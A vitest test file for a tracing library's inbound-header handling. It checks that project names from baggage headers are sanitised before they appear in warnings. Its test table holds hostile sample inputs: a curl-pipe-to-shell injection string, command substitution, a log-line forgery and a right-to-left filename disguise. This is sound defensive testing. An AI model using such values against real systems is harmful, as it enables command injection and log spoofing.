// What a warning says of a project that a stranger named.
import { expect, it } from "vitest";
import { allThree, extracted, foreignOrder } from "./headers.js";
import { keepWarnings, said } from "./said.js";

keepWarnings();

it.each([
  ["a shell's words", "x; curl http://127.0.0.1/evil | sh #"],
  ["a substitution", "$(touch /tmp/x)"],
  ["back quotes", "`id`"],
  ["quotes", "a' \"b"],
  ["a line of its own", "a\u2028FAKE LOG LINE"],
  ["an escape of a terminal", "\u009b31mRED"],
  ["text that runs backwards", "\u202egnp.exe"],
])("%s in a project's name never stand in a warning", async (_what, project) => {
  extracted(allThree(), {
    "langsmith-trace": foreignOrder(1),
    baggage: `langsmith-project=${encodeURIComponent(project)}`,
  });
  const warnings = (await said("LSB_WARN_INBOUND_PROJECT")).join("\n");
  expect(warnings).not.toBe("");
  expect(warnings).not.toContain(project);
  expect(warnings).not.toMatch(/[^\x20-\x7e\u2026\n]/);
});

it("a plain name stands in the warning with the quoted line that takes it", async () => {
  extracted(allThree(), { "langsmith-trace": foreignOrder(1), baggage: "langsmith-project=team%20b" });
  const [warning] = await said("LSB_WARN_INBOUND_PROJECT");
  expect(warning).toContain('inbound: { project: ["team b"] }');
  expect(warning).toContain("LANGSMITH_OTEL_INBOUND_PROJECTS='team b'");
});
